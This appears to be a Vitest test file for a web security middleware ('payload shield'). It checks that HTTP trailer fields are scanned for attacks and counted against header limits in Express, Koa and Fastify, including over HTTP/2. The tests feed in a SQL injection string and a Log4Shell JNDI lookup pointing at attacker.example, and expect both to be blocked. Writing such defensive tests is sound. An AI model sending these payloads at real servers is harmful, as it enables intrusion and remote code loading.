/**
 * Trailer fields (the header lines a chunked body may send after its last chunk) reach a handler in `req.trailers`:
 * the payload shield inspects them as headers (`trailer.<name>`) and counts them against the header limits with the
 * headers. Over real sockets (supertest, fetch and inject() send no trailers) through Express 4 and 5, Koa 2 and 3,
 * Fastify 4 and 5, each with its body stage after the app's JSON parser; a multipart form the shield reads while
 * holding it back (Express, Koa); and HTTP/2 trailers (Fastify `http2: true`).
 */
import http from 'node:http';
import http2 from 'node:http2';
import type { AddressInfo } from 'node:net';
import express5 from 'express';
import express4 from 'express4';
import Koa3 from 'koa';
import Koa2 from 'koa2';
import bodyParser from 'koa-bodyparser';
import fastify5 from 'fastify';
import fastify4 from 'fastify4';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { expressShield, expressShieldBody } from '../../src/adapters/express.js';
import { koaShield, koaShieldBody } from '../../src/adapters/koa.js';
import { fastifyShield } from '../../src/adapters/fastify.js';
import { createShield, type Decision, type Shield } from '../../src/shield.js';
import { createTestAttester } from '../../src/testing/index.js';
import { listen } from '../helpers/adapters.js';
import { chunkedWithTrailers, rawRequest } from '../helpers/raw-http.js';

/** What the handler of `POST /orders` answers: the body and the trailers it read. */
interface Seen {
  body: unknown;
  trailers: Record<string, unknown>;
}

interface App {
  port: number;
  close(): Promise<void>;
}

type Start = (shield: Shield, seen: Seen[]) => Promise<App>;

async function serve(server: http.Server): Promise<App> {
  const running = await listen(server);
  return { port: Number(new URL(running.url).port), close: () => running.close() };
}

function expressApp(factory: typeof express5): Start {
  return (shield, seen) => {
    const app = factory();
    app.use(expressShield(shield));
    app.use(factory.json());
    app.use(expressShieldBody(shield) as unknown as express5.RequestHandler);
    app.post('/orders', (req, res) => {
      seen.push({ body: req.body, trailers: { ...req.trailers } });
      res.json({ ok: true });
    });
    return serve(http.createServer(app));
  };
}

function koaApp(Koa: typeof Koa3): Start {
  return (shield, seen) => {
    const app = new Koa();
    app.use(koaShield(shield) as unknown as Koa3.Middleware);
    app.use(bodyParser() as unknown as Koa3.Middleware);
    app.use(koaShieldBody(shield) as unknown as Koa3.Middleware);
    app.use(async (ctx) => {
      seen.push({ body: (ctx.request as { body?: unknown }).body, trailers: { ...ctx.req.trailers } });
      ctx.body = { ok: true };
    });
    return serve(http.createServer(app.callback()));
  };
}

function fastifyApp(factory: typeof fastify5): Start {
  return async (shield, seen) => {
    const app = factory();
    await app.register(fastifyShield as never, { shield });
    app.post('/orders', async (req) => {
      seen.push({ body: req.body, trailers: { ...req.raw.trailers } });
      return { ok: true };
    });
    await app.listen({ port: 0, host: '127.0.0.1' });
    return { port: (app.server.address() as AddressInfo).port, close: async () => void (await app.close()) };
  };
}

const APPS: readonly (readonly [string, Start])[] = [
  ['express4', expressApp(express4 as unknown as typeof express5)],
  ['express5', expressApp(express5)],
  ['koa2', koaApp(Koa2 as unknown as typeof Koa3)],
  ['koa3', koaApp(Koa3)],
  ['fastify4', fastifyApp(fastify4 as unknown as typeof fastify5)],
  ['fastify5', fastifyApp(fastify5)],
];

// rawRequest sends Host and Connection; with these two, a request has four header lines.
const HEADERS = { 'Content-Type': 'application/json', 'Transfer-Encoding': 'chunked' };
const HEADER_LINES = 4;
const LIMITS = { maxHeaderCount: 20, maxHeaderBytes: 2000 };

describe.each(APPS)('trailer fields (%s)', (_name, start) => {
  let app: App;
  const seen: Seen[] = [];
  const decisions: Decision[] = [];
  /** The payload shield's detail for the last request. */
  const lastDetail = () => decisions.at(-1)?.results.find((r) => r.verifier === 'payload-shield')?.detail;
  beforeAll(async () => {
    app = await start(createShield({ payload: { limits: LIMITS }, onDecision: (d) => void decisions.push(d) }), seen);
  });
  afterAll(() => app.close());

  const post = (trailers: readonly (readonly [string, string])[]) =>
    rawRequest(app.port, 'POST', '/orders', HEADERS, chunkedWithTrailers('{"item":"shoes"}', trailers));

  it('denies an attack in a trailer field 403 payload_attack (problem+json), before the handler', async () => {
    const before = seen.length;
    const res = await post([['X-Evil', "' or 1=1--"]]);
    expect(res.status).toBe(403);
    expect(res.headers['content-type']).toContain('application/problem+json');
    expect(JSON.parse(res.body)).toMatchObject({ code: 'payload_attack' });
    expect(lastDetail()).toContain('trailer.x-evil');
    expect(seen.length).toBe(before);
  });

  it('denies a Log4Shell lookup in a trailer named like an ordinary header', async () => {
    const res = await post([['User-Agent', '${jndi:ldap://attacker.example/a}']]);
    expect(res.status).toBe(403);
    expect(JSON.parse(res.body)).toMatchObject({ code: 'payload_attack' });
  });

  it('passes a benign trailer field, which the handler reads', async () => {
    const res = await post([['X-Checksum', 'sha256-47DEQpj8HBSa']]);
    expect(res.status).toBe(200);
    expect(seen.at(-1)).toEqual({ body: { item: 'shoes' }, trailers: { 'x-checksum': 'sha256-47DEQpj8HBSa' } });
  });

  it('counts trailer lines with the header lines against maxHeaderCount: 413 payload_too_large one past the limit', async () => {
    const fields = (n: number) => Array.from({ length: n }, (_, i) => [`X-T${i}`, '1'] as const);
    expect((await post(fields(LIMITS.maxHeaderCount - HEADER_LINES))).status).toBe(200);
    const before = seen.length;
    const over = await post(fields(LIMITS.maxHeaderCount - HEADER_LINES + 1));
    expect(over.status).toBe(413);
    expect(JSON.parse(over.body)).toMatchObject({ code: 'payload_too_large' });
    expect(lastDetail()).toContain('maxHeaderCount');
    expect(seen.length).toBe(before);
  });

  it('counts trailer bytes with the header bytes against maxHeaderBytes', async () => {
    const res = await post([['X-Pad', 'a'.repeat(LIMITS.maxHeaderBytes)]]);
    expect(res.status).toBe(413);
    expect(JSON.parse(res.body)).toMatchObject({ code: 'payload_too_large' });
    expect(lastDetail()).toContain('maxHeaderBytes');
  });
});

/**
 * A multipart form the app parses after the body stage (its parser on the route): the shield reads the fields while
 * holding the bytes back, to the end of the body, where the trailers arrive; they are inspected then too.
 */
const HELD: readonly (readonly [string, Start])[] = [
  ['express4', heldExpressApp(express4 as unknown as typeof express5)],
  ['express5', heldExpressApp(express5)],
  ['koa2', heldKoaApp(Koa2 as unknown as typeof Koa3)],
  ['koa3', heldKoaApp(Koa3)],
];

/** Reads the rest of the request (as a multipart parser on the route would), then reports the trailers. */
function drained(req: http.IncomingMessage): Promise<Seen> {
  return new Promise((resolve, reject) => {
    const chunks: Buffer[] = [];
    req.on('data', (chunk: Buffer) => chunks.push(chunk));
    req.on('end', () => resolve({ body: Buffer.concat(chunks).length, trailers: { ...req.trailers } }));
    req.on('error', reject);
  });
}

function heldExpressApp(factory: typeof express5): Start {
  return (shield, seen) => {
    const app = factory();
    app.use(expressShield(shield));
    app.use(factory.json());
    app.use(expressShieldBody(shield) as unknown as express5.RequestHandler);
    app.post('/orders', (req, res, next) => void drained(req).then((s) => (seen.push(s), res.json({ ok: true })), next));
    return serve(http.createServer(app));
  };
}

function heldKoaApp(Koa: typeof Koa3): Start {
  return (shield, seen) => {
    const app = new Koa();
    app.use(koaShield(shield) as unknown as Koa3.Middleware);
    app.use(bodyParser() as unknown as Koa3.Middleware);
    app.use(koaShieldBody(shield) as unknown as Koa3.Middleware);
    app.use(async (ctx) => {
      seen.push(await drained(ctx.req));
      ctx.body = { ok: true };
    });
    return serve(http.createServer(app.callback()));
  };
}

describe.each(HELD)('trailer fields after a held multipart form (%s)', (_name, start) => {
  let app: App;
  const seen: Seen[] = [];
  beforeAll(async () => {
    app = await start(createShield({ payload: { limits: LIMITS } }), seen);
  });
  afterAll(() => app.close());

  const form = '--b0und\r\nContent-Disposition: form-data; name="item"\r\n\r\nshoes\r\n--b0und--\r\n';
  const post = (trailers: readonly (readonly [string, string])[]) =>
    rawRequest(
      app.port,
      'POST',
      '/orders',
      { 'Content-Type': 'multipart/form-data; boundary=b0und', 'Transfer-Encoding': 'chunked' },
      chunkedWithTrailers(form, trailers),
    );

  it('denies an attack in a trailer 403 payload_attack; passes a benign one to the app parser', async () => {
    const res = await post([['X-Evil', "' or 1=1--"]]);
    expect(res.status).toBe(403);
    expect(JSON.parse(res.body)).toMatchObject({ code: 'payload_attack' });
    expect(seen).toEqual([]);
    const ok = await post([['X-Checksum', 'sha256-47DEQpj8HBSa']]);
    expect(ok.status).toBe(200);
    expect(seen).toEqual([{ body: Buffer.byteLength(form), trailers: { 'x-checksum': 'sha256-47DEQpj8HBSa' } }]);
  });

  it('counts the trailer lines against maxHeaderCount: 413 payload_too_large', async () => {
    const fields = Array.from({ length: LIMITS.maxHeaderCount }, (_, i) => [`X-T${i}`, '1'] as const);
    const res = await post(fields);
    expect(res.status).toBe(413);
    expect(JSON.parse(res.body)).toMatchObject({ code: 'payload_too_large' });
  });
});

describe('trailer fields over HTTP/2 (Fastify http2: true)', () => {
  let app: ReturnType<typeof fastify5>;
  let port: number;
  const seen: Seen[] = [];
  beforeAll(async () => {
    app = fastify5({ http2: true }) as never;
    await app.register(fastifyShield as never, { shield: createShield({ payload: { limits: LIMITS } }) });
    app.post('/orders', async (req: { body: unknown; raw: { trailers: Record<string, string> } }) => {
      // Object.entries: HTTP/2 trailers carry a symbol-keyed `sensitiveHeaders` list beside the fields.
      seen.push({ body: req.body, trailers: Object.fromEntries(Object.entries(req.raw.trailers)) });
      return { ok: true };
    });
    await app.listen({ port: 0, host: '127.0.0.1' });
    port = (app.server.address() as AddressInfo).port;
  });
  afterAll(() => app.close());

  /** A JSON POST whose stream ends with `trailers`. */
  async function post(trailers: Record<string, string>): Promise<{ status: number; body: string }> {
    const client = http2.connect(`http://127.0.0.1:${port}`);
    try {
      return await new Promise((resolve, reject) => {
        const stream = client.request({ ':method': 'POST', ':path': '/orders', 'content-type': 'application/json' }, { waitForTrailers: true });
        let body = '';
        let status = 0;
        stream.on('wantTrailers', () => stream.sendTrailers(trailers));
        stream.on('response', (headers) => void (status = Number(headers[':status'])));
        stream.on('data', (chunk: Buffer) => void (body += chunk.toString()));
        stream.on('end', () => resolve({ status, body }));
        stream.on('error', reject);
        stream.end('{"item":"shoes"}');
      });
    } finally {
      client.close();
    }
  }

  it('denies an attack in a trailer 403 payload_attack, passes a benign one the handler reads', async () => {
    const res = await post({ 'x-evil': "' or 1=1--" });
    expect(res.status).toBe(403);
    expect(JSON.parse(res.body)).toMatchObject({ code: 'payload_attack' });
    expect(seen).toEqual([]);
    expect((await post({ 'x-checksum': 'sha256-47DEQpj8HBSa' })).status).toBe(200);
    expect(seen).toEqual([{ body: { item: 'shoes' }, trailers: { 'x-checksum': 'sha256-47DEQpj8HBSa' } }]);
  });
});

/** Node keeps trailers out of `req.headers`: an attestation token sent only as a trailer field is no token. */
describe.each(APPS)('an attestation token in a trailer field (%s)', (_name, start) => {
  const attester = createTestAttester();
  let app: App;
  const seen: Seen[] = [];
  beforeAll(async () => {
    app = await start(createShield({ token: { secret: attester.secret as string, header: 'x-attestation-token' }, payload: {} }), seen);
  });
  afterAll(() => app.close());

  it('is refused 401 token_missing; the same token as a header passes', async () => {
    const token = await attester.mint({ claims: { sub: 'app' } });
    const trailer = await rawRequest(app.port, 'POST', '/orders', HEADERS, chunkedWithTrailers('{"item":"shoes"}', [['X-Attestation-Token', token]]));
    expect(trailer.status).toBe(401);
    expect(JSON.parse(trailer.body)).toMatchObject({ code: 'token_missing' });
    expect(seen).toEqual([]);
    const header = await rawRequest(app.port, 'POST', '/orders', { ...HEADERS, 'X-Attestation-Token': token }, chunkedWithTrailers('{"item":"shoes"}', []));
    expect(header.status).toBe(200);
    expect(seen).toHaveLength(1);
  });
});
